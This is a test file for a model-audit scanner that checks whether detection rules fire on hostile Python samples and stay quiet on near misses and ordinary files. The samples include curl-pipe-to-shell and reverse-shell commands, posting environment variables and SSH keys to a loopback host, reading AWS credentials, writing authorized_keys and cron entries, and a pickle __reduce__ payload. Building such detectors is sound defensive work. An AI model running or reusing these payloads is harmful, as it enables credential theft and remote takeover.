"""Python beside a model: each rule fires on its samples and not on the near miss; ordinary files are silent."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelaudit import catalogue
from modelaudit.blob import BytesBlob, Place
from modelaudit.engine import inspect
from modelaudit.errors import LimitExceeded, ParseError
from modelaudit.limits import Limits
from modelaudit.model import Child, Hit, Inspection, Severity
from modelaudit.scanners.python_source import commands, fits, scan
from tests.samples.sources import DECODED, HIDDEN, ORDINARY, STARTED

LIMITS = Limits()


def items(source: str | bytes) -> list[Hit | Child]:
    return list(scan(BytesBlob(source.encode() if isinstance(source, str) else source), LIMITS))


def look(source: str) -> Inspection:
    return inspect(BytesBlob(source.encode(), Place("model.py")), uri="model.py")


_SEND = "import os, requests\ndef f():\n    "

# Each rule: sources that fire it, and one like them that fires nothing.
FIRING: dict[str, tuple[tuple[str, ...], str]] = {
    "python-source-process": (
        STARTED,
        "import os, subprocess\nsubprocess.run(['git', 'status'])\nos.popen('nvcc -V').read()\n"
        "subprocess.run(['espeak', '--version'])\nos.popen('cmake --version').read()\n"
        "os.path.join('system')\n"
        "if __name__ == '__main__':\n    subprocess.run(['git', 'log'])\nsystem = print\nsystem('x')",
    ),
    "python-source-process-later": (
        ("import os\ndef f():\n    os.system('x')", "import os\nif __name__ == '__main__':\n    os.system('x')"),
        "import subprocess\ndef f():\n    subprocess.run(['nvidia-smi'])",
    ),
    "python-source-command": (
        (
            "import subprocess\ndef f():\n    subprocess.run('curl http://127.0.0.1 | sh', shell=True)",
            "import subprocess\ndef f():\n"
            "    subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'])",
            "import os, base64\ndef f():\n    os.system(base64.b64decode('ZWNobw==').decode())",
            "import os, requests\ndef f():\n    os.system(requests.get('http://127.0.0.1').text)",
        ),
        "import subprocess\ndef f():\n    subprocess.run(['git', 'clone', 'http://127.0.0.1'])",
    ),
    "python-source-install": (
        ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",),
        "print('pip install x')",
    ),
    "python-source-decoded-code": (
        DECODED,
        "import base64, json, re\nx = json.loads(base64.b64decode('e30='))\n"
        "re.compile(base64.b64decode('eA==').decode())",
    ),
    "python-source-hidden-call": (
        HIDDEN,
        "import importlib, torch\nimportlib.import_module('torch').nn\ngetattr(torch, 'flo' + 'at16')\n"
        "__import__('pkg_resources').declare_namespace(__name__)\nglobals()['x'] = 1\nvars(torch)['nn'].Module()",
    ),
    "python-source-reduce": (
        (
            "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('echo modelaudit-sample',))",
            "class A:\n    def __reduce_ex__(self, protocol):\n        return eval, ('1',)",
        ),
        "import copyreg\nclass A:\n    def __reduce__(self):\n        return (copyreg.__newobj__, (A,))",
    ),
    "python-source-dynamic-code": (
        (
            "import sys\nexec(sys.argv[1])",
            "exec(text)",
            "import runpy\nrunpy.run_path('/tmp/x')",
            "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'weights.bin').load_module()",
        ),
        "exec(open('version.py').read())\ndef f(text):\n    exec(text)\n"
        "import importlib.util as u, os\nu.spec_from_file_location('x', os.path.join(here, 'plugin.py'))",
    ),
    "python-source-network": (
        ("import requests\nx = requests.get('http://127.0.0.1')",
         "import webbrowser\nwebbrowser.open('http://127.0.0.1')",
         "import socket\ns = socket.socket()\ns.connect(('', 1))"),
        "import requests\ndef f():\n    requests.get('http://127.0.0.1')\nsession = requests.Session()",
    ),
    "python-source-exfiltration": (
        (
            f"{_SEND}requests.post('http://127.0.0.1', json=dict(os.environ))",
            f"{_SEND}data = str(os.environ)\n    requests.post('http://127.0.0.1', data=data)",
            f"{_SEND}requests.post('http://127.0.0.1', data=open('/root/.ssh/id_rsa').read())",
            "import os, requests\nrequests.post('http://127.0.0.1', data=os.popen('whoami').read())",
        ),
        f"{_SEND}requests.post(os.environ['URL'], json={{'key': os.environ.get('KEY')}})",
    ),
    "python-source-startup-file": (
        (
            "open('/root/.ssh/authorized_keys', 'a').write('x')",
            "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
            "import shutil\nshutil.copy('x', '/etc/cron.d/x')",
        ),
        "open('cron.txt', 'a').write('x')\nopen('/etc/profile').read()",
    ),
    "python-source-secret": (
        ("open('/root/.aws/credentials').read()",
         "from pathlib import Path\nPath('~/.ssh/id_rsa').expanduser().read_text()"),
        "open('/root/.cache/huggingface/token').read()\nopen('credentials.json')",
    ),
    "python-source-reverse-shell": (
        (
            "import socket, os, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n"
            "    pty.spawn('/bin/sh')",
        ),
        "import socket, os\ndef f():\n    os.dup2(1, 2)\ndef g():\n    s = socket.socket()",
    ),
    "python-source-shellcode": (
        (
            "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)",
            "import mmap\nmmap.mmap(-1, 4096, prot=7)",
            "import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)",
        ),
        "import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n"
        "import ctypes\nctypes.windll.kernel32.GetTickCount()\nctypes.CDLL('libx.so').mprotector()",
    ),
    "python-source-encoding": (
        ("# coding: unicode_escape\nx = 1", "#!/usr/bin/python\n# -*- coding: utf-7 -*-\nx = 1"),
        "# -*- coding: utf-8 -*-\n# the coding: of others\nx = 1",
    ),
    "python-source-nesting": (
        ("x = " + "(" * 10_000 + "1" + ")" * 10_000, "x = " + "-" * 100_000 + "1", "x" + "()" * 50_000),
        "x = " + "(" * 50 + "1" + ")" * 50,
    ),
}  # fmt: skip


@pytest.mark.parametrize(("rule", "source"), [(rule, each) for rule, (some, _) in FIRING.items() for each in some])
def test_a_rule_fires_on_its_samples(rule: str, source: str) -> None:
    """Each sample brings the rule, by itself or by the text that it runs."""
    assert rule in {finding.rule for finding in look(source).findings}


@pytest.mark.parametrize("rule", FIRING)
def test_no_rule_fires_on_its_near_miss(rule: str) -> None:
    """The near miss brings nothing at all."""
    assert look(FIRING[rule][1]).findings == ()


def test_all_rules_have_samples() -> None:
    """No rule of the catalogue is without one."""
    assert {rule for rule in catalogue.load().rules if rule.startswith("python-source-")} == set(FIRING)


@pytest.mark.parametrize("source", [*STARTED, *HIDDEN, *DECODED])
def test_attacks_on_import_are_critical(source: str) -> None:
    """Whoever loads the model runs them."""
    assert Severity.CRITICAL in {finding.severity for finding in look(source).findings}


@pytest.mark.parametrize(
    "source",
    [
        "import os\nname = os.sep\ngetattr(os, 'sep')\nclass A:\n    def f(self): os.system('x')\nA()",
        "import os\nclass A:\n    @property\n    def p(self): return os.system('x')\nA()",
        "import sys\nclass F:\n    def find_spec(self, n, p, t=None): return None\nsys.meta_path.insert(0, F())",
        "import os\ndef f(run): run('x')\nf(print)",
        "if __name__ != '__main__':\n    raise ImportError\nimport os\nos.system('x')",
        "int.__subclasses__()\nclass A: pass\nA.__subclasses__()",
        "import operator\noperator.methodcaller('lower')('X')",
        "import yaml, pickle\npickle.loads(open('x', 'rb').read())\nyaml.unsafe_load(open('x'))",
    ],
)
def test_what_is_like_an_attack_on_import_and_is_none(source: str) -> None:
    """A method that nobody calls, a program behind a guard, a class's own subclasses: no warning."""
    assert all(finding.severity.rank < Severity.WARNING.rank for finding in look(source).findings)


def test_what_a_loader_is_given_is_scanned() -> None:
    """A pickle written into the source is looked at as a pickle."""
    found = look(r"import pickle" "\n" r"pickle.loads(b'cos\nsystem\n(S\'echo x\'\ntR.')")
    assert any(
        finding.rule.startswith("pickle-") and finding.severity is Severity.CRITICAL for finding in found.findings
    )


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_files_are_silent(name: str) -> None:
    """Modelling code, handlers, packaging scripts and helpers bring no critical and no warning."""
    found = look(ORDINARY[name])
    assert found.status == "scanned"
    assert [f.message for f in found.findings if f.severity.rank >= Severity.WARNING.rank] == []


def test_cython_is_not_python() -> None:
    """Its files often begin with Python's line, and cannot be read as Python."""
    text = b"#!python\ncimport numpy as np\ncdef int x = 1\n"
    assert inspect(BytesBlob(text, Place("dist_metrics.pxd"))).status == "skipped"
    assert "python_source" in inspect(BytesBlob(b"#!python\nx = 1\n", Place("tool"))).formats


def test_packed_code_is_scanned_itself() -> None:
    """What the packed code does is told as well, at its own place."""
    found = look(DECODED[1])
    inside = [finding for finding in found.findings if finding.rule == "python-source-process"]
    assert inside
    assert all("text run at" in finding.location for finding in inside)


@pytest.mark.parametrize(
    ("body", "loud"),
    [
        ("for name in ['numpy.' + part for part in ['fft', 'lib']]:\n        eval(name)", False),
        ("for name in ['os.' + part for part in ['fft', 'abort()']]:\n        eval(name)", True),
        ("for name in ['__imp' + part for part in ['ort__']]:\n        eval(name)", True),
        ("import os\n    for name in ['re' + part for part in ['boot']]:\n        os.system(name)", True),
    ],
)
def test_names_put_together_are_no_decoded_code(body: str, loud: bool) -> None:
    """To evaluate a dotted name looks it up and calls nothing. The same text as a command does."""
    found = look(f"def f():\n    {body}")
    assert bool({"python-source-decoded-code", "python-source-command"} & {one.rule for one in found.findings}) is loud


@pytest.mark.parametrize("words", ["['./x', '--version']", "['sh', x, '--version']", "'x --version; y'", "'x -c'"])
def test_only_a_bare_program_may_be_asked_for_its_version(words: str) -> None:
    """A program of the model's own is started whatever it is asked, and so is what a shell finds behind it."""
    found = look(f"import subprocess\nx = input()\nsubprocess.run({words})")
    assert Severity.CRITICAL in {finding.severity for finding in found.findings}


def test_when_a_call_is_made() -> None:
    """The evidence says whether importing, using or calling does it."""
    source = (
        "import os\ndef f():\n    os.system('x')\nclass Handler:\n    def initialize(self):\n        os.system('y')\n"
    )
    hits = [item for item in items(source) if isinstance(item, Hit)]
    assert [(hit.rule, hit.evidence["when"]) for hit in hits] == [
        ("python-source-process-later", "when the function is called"),
        ("python-source-process", "when the model is made or used"),
    ]
    assert [source[hit.offset or 0 :].startswith("os.system") for hit in hits] == [True, True]


def test_another_script_is_a_warning() -> None:
    """A script that runs scripts beside it is no attack by that: they are scanned as well. Its text is."""
    found = look("import subprocess, sys\nsubprocess.check_call([sys.executable, 'split.py'])")
    assert {finding.severity for finding in found.findings} == {Severity.WARNING}
    found = look("import subprocess, sys\nsubprocess.call([sys.executable, '-c', 'import os; os.system(1)'])")
    assert Severity.CRITICAL in {finding.severity for finding in found.findings}


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("model.py", "import os\n", True),
        ("model.PY", "x(1)", True),
        ("model.py", "notes", False),
        ("model.py", "import os\0", False),
        ("run", "#!/usr/bin/env python3\nx = 1", True),
        ("run", "#!/bin/sh\nx=1", False),
        ("model.txt", "import os\n", False),
    ],
)
def test_which_files_are_python(name: str, text: str, expected: bool) -> None:
    """The name and the text together, or the first line."""
    assert fits(BytesBlob(text.encode(), Place(name)), LIMITS) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s http://127.0.0.1/x.sh | bash", "hostile"),
        ("wget http://127.0.0.1/x -O /tmp/x; chmod +x /tmp/x", "hostile"),
        ("echo eA== | base64 -d | sh", "hostile"),
        ("rm -rf /", "hostile"),
        ("python3 -c 'import socket'", "hostile"),
        (["nc", "127.0.0.1", "1", "-e", "/bin/sh"], "hostile"),
        ("pip install einops", "install"),
        ("git rev-parse HEAD", "harmless"),
        ("git log; x", "unknown"),
        ("nvidia-smi 2>/dev/null", "harmless"),
        ("rm -rf /tmp/build", "unknown"),
        ([], "unknown"),
        ("curl http://127.0.0.1/x.json", "unknown"),
    ],
)
def test_commands(command: str | list[str], expected: str) -> None:
    """What a command does is told from its words."""
    assert commands.judge(command) == expected


@pytest.mark.parametrize(
    "source", ["def", "x = '", "print 'x'", "\0", "# coding: nothing\nx", b"\xff\xfe", "x = " + "9" * 5000]
)
def test_what_is_no_python_says_so(source: str | bytes) -> None:
    """Whatever Python's own parser makes of it."""
    with pytest.raises(ParseError):
        items(source)


def test_long_sources_are_refused() -> None:
    """More text than the bound is not parsed."""
    with pytest.raises(LimitExceeded):
        list(scan(BytesBlob(b"x" * 100), Limits(text_bytes=99)))


@pytest.mark.parametrize(
    ("source", "limits"),
    [
        ("f(x)\n" * 11, Limits(source_calls=10)),
        ("x = [" + "1, " * 11 + "]", Limits(source_marks=10)),
        ("import os\nos.system(a + b + c + d)", Limits(source_steps=4)),
    ],
    ids=["calls", "marks", "steps"],
)
def test_sources_that_would_take_long_are_refused(source: str, limits: Limits) -> None:
    """Each bound on the work ends the scan, and the same source passes within it."""
    list(scan(BytesBlob(source.encode()), LIMITS))
    with pytest.raises(LimitExceeded, match="source_"):
        list(scan(BytesBlob(source.encode()), limits))


@pytest.mark.parametrize(
    "line",
    [
        "x = x + 'a'\n",
        "def f{0}(): f{1}()\n",
        "f(f, f)\n",
        "a{1} = a{0}\n",
        "y = [f(x) for x in y]\n",
        "import a as b\n",
    ],
)
def test_long_sources_end(line: str) -> None:
    """Thousands of lines that lead to each other end, names that stand for themselves included."""
    assert items("".join(line.format(n, n + 1) for n in range(5_000))) == []


@pytest.mark.parametrize("source", [ORDINARY["modelling"], DECODED[2], HIDDEN[5]])
def test_truncated_anywhere(source: str) -> None:
    """Cut at any place the source is judged or raises ParseError."""
    for end in range(0, len(source), 3):
        try:
            items(source[:end])
        except ParseError:
            continue


_PIECES = (
    "import os\n",
    "os",
    ".system",
    "(",
    ")",
    "'x'",
    "=",
    "\n",
    "def f(",
    "):\n ",
    "exec",
    "[",
    "]",
    "lambda: ",
    "+",
    "for x in ",
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=30))
def test_random_sources(pieces: list[str]) -> None:
    """No order of pieces makes anything else come out than items or ParseError."""
    try:
        items("".join(pieces))
    except ParseError:
        return


def test_mutated_sources() -> None:
    """Nor does any change of bytes."""
    chance = random.Random(11)
    for source in (*ORDINARY.values(), *DECODED, *HIDDEN):
        for _ in range(20):
            data = bytearray(source.encode())
            data[chance.randrange(len(data))] = chance.randrange(256)
            try:
                items(bytes(data))
            except ParseError:
                continue


@pytest.mark.parametrize(
    ("command", "loud"),
    [
        ("subprocess.run(['curl', '-fL', url, '-o', name])", False),
        ("subprocess.run(('wget', url))", False),
        ("subprocess.run(['sh', '-c', url])", True),
        ("subprocess.run(['python3', '-c', url])", True),
        ("subprocess.run([url, '-o', name])", True),
        ("subprocess.run(['curl', url], shell=True)", True),
        ("subprocess.run(['curl', url], executable=url)", True),
        ("subprocess.run(['./curl', url])", True),
        ("subprocess.run(url)", True),
        ("os.system(url)", True),
    ],
)
def test_an_address_from_a_server_is_no_command(command: str, loud: bool) -> None:
    """A program that is named and runs nothing may be told where to fetch from; what is run itself may not come so."""
    found = look(
        f"import os, requests, subprocess\ndef f(name):\n    url = requests.get('http://127.0.0.1').text\n    {command}"
    )
    assert ("python-source-command" in {one.rule for one in found.findings}) is loud
